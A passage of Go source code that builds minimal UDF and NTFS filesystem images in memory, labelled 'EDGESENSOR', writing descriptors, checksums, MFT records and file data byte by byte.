	charspec(d[20:])
	dstr(d[84:212], "EDGESENSOR")
	binary.LittleEndian.PutUint32(d[212:], bs)
	regid(d[216:], "*OSTA UDF Compliant", 0x02, 0x01)
	binary.LittleEndian.PutUint32(d[248:], bs) // the FSD: block 0 of partition 0
	binary.LittleEndian.PutUint32(d[264:], 6)
	binary.LittleEndian.PutUint32(d[268:], 1)
	regid(d[272:], "*edgesensor")
	binary.LittleEndian.PutUint32(d[432:], bs)
	binary.LittleEndian.PutUint32(d[436:], 64) // the integrity descriptor
	copy(d[440:], []byte{1, 6, 1, 0, 0, 0})
	udfTag(d[:446], 6, 34)
	udfTag(img[35*bs:35*bs+512], 8, 35)      // terminating descriptor
	d = img[64*bs : 65*bs]                   // logical volume integrity descriptor
	binary.LittleEndian.PutUint32(d[28:], 1) // closed
	binary.LittleEndian.PutUint64(d[64:], 16+uint64(len(names)))
	binary.LittleEndian.PutUint32(d[72:], 1)
	binary.LittleEndian.PutUint32(d[76:], 46)
	binary.LittleEndian.PutUint32(d[80:], 0)       // free blocks
	binary.LittleEndian.PutUint32(d[84:], partLen) // size
	regid(d[88:], "*edgesensor")
	binary.LittleEndian.PutUint32(d[120:], uint32(len(names)))
	binary.LittleEndian.PutUint32(d[124:], 1)
	binary.LittleEndian.PutUint16(d[128:], 0x0102)
	binary.LittleEndian.PutUint16(d[130:], 0x0102)
	binary.LittleEndian.PutUint16(d[132:], 0x0102)
	udfTag(d[:134], 9, 64)
	d = img[256*bs : 257*bs] // anchor
	binary.LittleEndian.PutUint32(d[16:], 16*bs)
	binary.LittleEndian.PutUint32(d[20:], 32)
	binary.LittleEndian.PutUint32(d[24:], 16*bs)
	binary.LittleEndian.PutUint32(d[28:], 32)
	udfTag(d[:512], 2, 256)
	p := img[part*bs:]
	d = p[:bs] // file set descriptor
	binary.LittleEndian.PutUint16(d[28:], 3)
	binary.LittleEndian.PutUint16(d[30:], 3)
	binary.LittleEndian.PutUint32(d[32:], 1)
	binary.LittleEndian.PutUint32(d[36:], 1)
	charspec(d[48:])
	dstr(d[112:240], "EDGESENSOR")
	charspec(d[240:])
	dstr(d[304:336], "EDGESENSOR")
	binary.LittleEndian.PutUint32(d[400:], bs)
	binary.LittleEndian.PutUint32(d[404:], 1) // root FE at block 1
	regid(d[416:], "*OSTA UDF Compliant", 0x02, 0x01)
	udfTag(d[:512], 256, 0)
	fe := func(block uint32, ftype byte, size int, data uint32) {
		e := p[int(block)*bs : int(block+1)*bs]
		binary.LittleEndian.PutUint16(e[16+4:], 4)
		binary.LittleEndian.PutUint16(e[16+8:], 1)
		e[16+11] = ftype
		// flags: short allocation descriptors (0)
		binary.LittleEndian.PutUint32(e[36:], 0xFFFFFFFF)
		binary.LittleEndian.PutUint32(e[40:], 0xFFFFFFFF)
		binary.LittleEndian.PutUint32(e[44:], 0x14A5) // r-x for all, rw for the owner
		binary.LittleEndian.PutUint16(e[48:], 1)
		binary.LittleEndian.PutUint64(e[56:], uint64(size))
		binary.LittleEndian.PutUint64(e[64:], uint64((size+bs-1)/bs))
		binary.LittleEndian.PutUint32(e[108:], 1)
		regid(e[128:], "*edgesensor")
		ad := 0
		if size > 0 {
			binary.LittleEndian.PutUint32(e[176:], uint32(size))
			binary.LittleEndian.PutUint32(e[180:], data)
			ad = 8
		}
		binary.LittleEndian.PutUint32(e[172:], uint32(ad))
		udfTag(e[:176+ad], 261, block)
	}
	fe(1, 4, dirData.Len(), 2)
	copy(p[2*bs:], dirData.Bytes())
	for i, n := range names {
		fe(feBlock(i), 5, len(files[n]), dataBlock[i])
		copy(p[int(dataBlock[i])*bs:], files[n])
	}
	return img
}

// udfTag fills the 16-byte descriptor tag of d (ECMA-167 3/7.2): version
// 2, the CRC-16 (CCITT) of the rest of d, the checksum of the tag.
func udfTag(d []byte, id uint16, loc uint32) {
	binary.LittleEndian.PutUint16(d, id)
	binary.LittleEndian.PutUint16(d[2:], 2)
	var crc uint16
	for _, c := range d[16:] {
		crc ^= uint16(c) << 8
		for i := 0; i < 8; i++ {
			if crc&0x8000 != 0 {
				crc = crc<<1 ^ 0x1021
			} else {
				crc <<= 1
			}
		}
	}
	binary.LittleEndian.PutUint16(d[8:], crc)
	binary.LittleEndian.PutUint16(d[10:], uint16(len(d)-16))
	binary.LittleEndian.PutUint32(d[12:], loc)
	var s byte
	for i, c := range d[:16] {
		if i != 4 {
			s += c
		}
	}
	d[4] = s
}

// NTFS is a small NTFS volume (512-byte clusters and sectors, 1 KiB
// records) holding files ("dir/sub/name" makes the directories): an MFT
// of 32 + len(files) + directories records ($MFT, $Volume with the label
// EDGESENSOR, the root directory, one record per file, then one per
// directory), files under 600 bytes resident in their record, the
// others in clusters after the MFT. Records carry update sequence
// fixups. It has what a reader of the MFT walks, not the rest of a
// volume Windows mounts (no $Bitmap, $LogFile, directory index).
func NTFS(files map[string][]byte) []byte {
	const cs, rs, mftLCN = 512, 1024, 16
	names := sortedNames(files)
	dirs := map[string]int{"": 5} // directory path -> record
	var dirNames []string
	for _, n := range names {
		for i := range len(n) {
			if d := n[:i]; n[i] == '/' && dirs[d] == 0 {
				dirs[d] = 32 + len(names) + len(dirNames)
				dirNames = append(dirNames, d)
			}
		}
	}
	nrec := 32 + len(names) + len(dirNames)
	dataLCN := mftLCN + nrec*rs/cs
	clusters := dataLCN
	for _, n := range names {
		if len(files[n]) >= 600 {
			clusters += (len(files[n]) + cs - 1) / cs
		}
	}
	v := make([]byte, (clusters+1)*cs)
	b := v[:512]
	copy(b, []byte{0xEB, 0x52, 0x90})
	copy(b[3:], "NTFS    ")
	binary.LittleEndian.PutUint16(b[11:], 512)
	b[13] = 1
	b[21] = 0xF8
	binary.LittleEndian.PutUint64(b[40:], uint64(len(v)/512-1))
	binary.LittleEndian.PutUint64(b[48:], mftLCN)
	binary.LittleEndian.PutUint64(b[56:], mftLCN)
	b[64] = 0xF6 // records of 2^10 bytes
	b[68] = 0xF4
	b[510], b[511] = 0x55, 0xAA
	attr := func(typ uint32, body []byte, nonres bool) []byte {
		var a []byte
		if nonres {
			a = make([]byte, 64)
			a[8] = 1
			binary.LittleEndian.PutUint16(a[32:], 64)
		} else {
			a = make([]byte, 24)
			binary.LittleEndian.PutUint32(a[16:], uint32(len(body)))
			binary.LittleEndian.PutUint16(a[20:], 24)
		}
		binary.LittleEndian.PutUint32(a, typ)
		a = append(a, body...)
		for len(a)%8 != 0 {
			a = append(a, 0)
		}
		binary.LittleEndian.PutUint32(a[4:], uint32(len(a)))
		return a
	}
	fileName := func(name string, parent uint64) []byte {
		n := utf16le(name)
		fn := make([]byte, 66, 66+len(n))
		binary.LittleEndian.PutUint64(fn, parent|1<<48)
		fn[64], fn[65] = byte(len(n)/2), 3 // Win32 and DOS
		return attr(0x30, append(fn, n...), false)
	}
	nonres := func(size int, lcn, count int) []byte {
		runs := []byte{0x32, byte(count), byte(count >> 8), byte(lcn), byte(lcn >> 8), byte(lcn >> 16), 0}
		a := attr(0x80, runs, true)
		binary.LittleEndian.PutUint64(a[24:], uint64(count-1))
		binary.LittleEndian.PutUint64(a[40:], uint64(count*cs))
		binary.LittleEndian.PutUint64(a[48:], uint64(size))
		binary.LittleEndian.PutUint64(a[56:], uint64(size))
		return a
	}
	record := func(n int, flags uint16, as ...[]byte) {
		r := v[mftLCN*cs+n*rs:][:rs]
		copy(r, "FILE")
		binary.LittleEndian.PutUint16(r[4:], 48)
		binary.LittleEndian.PutUint16(r[6:], 3)
		binary.LittleEndian.PutUint16(r[16:], 1)
		binary.LittleEndian.PutUint16(r[18:], 1)
		binary.LittleEndian.PutUint16(r[20:], 56)
		binary.LittleEndian.PutUint16(r[22:], flags)
		binary.LittleEndian.PutUint32(r[44:], uint32(n))
		p := 56
		for _, a := range as {
			p += copy(r[p:], a)
		}
		binary.LittleEndian.PutUint32(r[p:], 0xFFFFFFFF)
		binary.LittleEndian.PutUint32(r[24:], uint32(p+8))
		binary.LittleEndian.PutUint32(r[28:], rs)
		r[48], r[49] = 1, 0 // the update sequence number, then the bytes it replaces
		for i := 1; i < 3; i++ {
			end := i*512 - 2
			r[48+2*i], r[49+2*i] = r[end], r[end+1]
			r[end], r[end+1] = 1, 0
		}
	}
	record(0, 1, fileName("$MFT", 5), nonres(nrec*rs, mftLCN, nrec*rs/cs))
	record(3, 1, fileName("$Volume", 5), attr(0x60, utf16le("EDGESENSOR"), false))
	record(5, 3, fileName(".", 5))
	// split is a path's parent directory record and base name.
	split := func(n string) (uint64, string) {
		i := strings.LastIndexByte(n, '/')
		if i < 0 {
			return 5, n
		}
		return uint64(dirs[n[:i]]), n[i+1:]
	}
	for _, d := range dirNames {
		parent, base := split(d)
		record(dirs[d], 3, fileName(base, parent))
	}
	next := dataLCN
	for i, n := range names {
		body := files[n]
		parent, base := split(n)
		if len(body) < 600 {
			record(32+i, 1, fileName(base, parent), attr(0x80, body, false))
			continue
		}
		k := (len(body) + cs - 1) / cs
		copy(v[next*cs:], body)
		record(32+i, 1, fileName(base, parent), nonres(len(body), next, k))
		next += k
	}
	return v
}
